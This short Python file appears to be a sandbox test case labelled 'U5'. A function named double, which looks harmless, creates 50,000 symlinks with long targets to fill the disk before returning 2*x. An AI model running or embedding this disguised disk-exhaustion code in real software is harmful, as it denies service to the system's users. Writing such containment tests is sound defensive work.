# U5: links without end, whose targets take the room
# says: No space left on device
import os


def double(x):
    for number in range(50_000):
        os.symlink("y" * 4000, f"link{number}")  # noqa: PTH211
    return 2 * x
